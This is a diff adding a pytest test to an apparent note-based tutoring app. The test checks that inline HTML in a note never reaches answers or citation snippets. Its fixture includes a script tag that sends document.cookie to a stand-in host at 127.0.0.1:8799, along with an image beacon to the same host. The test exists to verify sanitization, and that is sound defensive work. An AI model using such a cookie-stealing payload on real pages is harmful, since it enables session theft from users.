@@ -156,3 +156,45 @@ def test_a_question_the_material_answers_is_still_answered(tmp_path, embedder) -
         "How does a detection transformer match predicted boxes to objects?"
     )
     assert answer.grounded and "ground-truth" in answer.answer
+
+
+# Inline HTML in a note: markup, not prose (case 23), beside one written here with the other
+# tags public notes mix in.
+HTML_NOTE = """# Batch normalization
+
+Batch normalization normalizes each feature over the batch <span class="note">before the
+affine step</span>, which keeps activations in a stable range <sup>[3]</sup>.
+<script>fetch('http://127.0.0.1:8799/x?steal=' + document.cookie)</script>
+At test time it uses running averages of the mean and variance <img src="http://127.0.0.1:8799/b.png">.
+In code, `torch.nn.BatchNorm1d(<features>)` takes the number of features, and $a<b>c$ stays a formula.
+"""
+
+
+@pytest.mark.parametrize(
+    "source, question",
+    [
+        ("case", "What does dropout do at test time?"),
+        ("ours", "What does batch normalization use at test time?"),
+    ],
+)
+def test_inline_html_in_a_note_never_reaches_an_answer_or_its_card(
+    source, question, tmp_path, embedder
+) -> None:
+    if source == "case":
+        folder = case("23-raw-html-in-answers") / "notes"
+    else:
+        folder = tmp_path / "notes"
+        write(folder / "batchnorm.md", HTML_NOTE)
+    answer = tutor_over(folder, tmp_path / "data", embedder).ask(question)
+    shown = [answer.answer, *(c.snippet for c in answer.citations)]
+    assert answer.grounded and answer.citations, answer.answer
+    for text in shown:
+        prose = re.sub(r"\$[^$]*\$|`[^`]*`", "", text)  # formulas and code keep their < and >
+        assert not re.search(r"<(img|a|b|span|sup|script)\b|</", prose), text
+        assert "127.0.0.1:8799" not in text and "document.cookie" not in text, text
+        assert not re.search(r"\s[,.]", prose), text  # no gap where markup stood
+    if source == "case":
+        assert re.search(r"matches training \[\d+\]\.", answer.answer), answer.answer
+    else:
+        assert "`torch.nn.BatchNorm1d(<features>)`" in answer.answer
+        assert "$a<b>c$" in answer.answer
